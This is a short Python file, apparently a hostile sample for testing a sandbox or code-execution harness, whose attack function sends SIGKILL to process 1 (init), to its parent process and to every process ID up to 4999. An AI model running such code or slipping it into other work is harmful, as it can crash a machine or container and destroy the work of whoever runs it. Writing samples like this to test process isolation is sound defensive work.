"""Kills its parent and the init."""

import os
import signal


def attack(x):
    os.kill(1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    for process in range(1, 5000):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
